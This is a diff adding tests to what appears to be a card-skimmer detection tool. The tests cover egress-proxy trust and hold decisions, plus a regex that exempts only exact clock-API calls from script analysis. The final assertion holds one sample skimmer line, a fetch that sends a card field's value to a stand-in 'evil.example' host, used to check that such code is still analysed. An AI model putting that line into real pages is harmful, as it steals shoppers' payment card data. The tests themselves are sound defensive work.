@@ -95,3 +95,33 @@ def test_reports_are_parsed_only_with_the_nonce() -> None:
 def test_trust_is_a_plain_value() -> None:
     trust = Trust(lambda host: host == "a.example", ("a.example",))
     assert trust.is_trusted("a.example") and not trust.is_trusted("b.example")
+
+
+@pytest.mark.parametrize(
+    ("host", "live", "armed", "untrusted", "holds"),
+    [
+        ("evil.example", False, False, True, False),  # inspected, but nothing typed yet
+        ("evil.example", False, True, True, True),
+        ("", False, True, True, True),  # unknown means untrusted
+        ("cdn.shop.example", False, True, False, False),  # tunnelled: the page's own site
+        ("evil.example", True, True, False, False),  # --live: tunnelled, never held
+    ],
+)
+def test_the_egress_proxy_questions(host: str, live: bool, armed: bool, untrusted: bool,
+                                    holds: bool) -> None:
+    q = Quarantine(default_trust("https://shop.example/checkout"), live=live)
+    if armed:
+        q.arm()
+    assert (q.untrusted(host), q.holds(host)) == (untrusted, holds)
+
+
+def test_only_the_clock_api_s_exact_calls_are_left_out_of_the_page_s_scripts() -> None:
+    from skimscan.capture.recorder import _CLOCK_CALL
+
+    assert _CLOCK_CALL.fullmatch("globalThis.__pwClock.controller.runFor(3000)")
+    assert _CLOCK_CALL.fullmatch("globalThis.__pwClock.controller.fastForward(300000)")
+    assert _CLOCK_CALL.fullmatch(
+        "(() => {\n      globalThis.__pwClock.controller.log('install', 17, 17)\n    })();")
+    # code that merely starts like one is the page's, and is analysed
+    assert not _CLOCK_CALL.fullmatch(
+        "globalThis.__pwClock.controller.runFor(1);fetch('//evil.example/'+cc.value)")
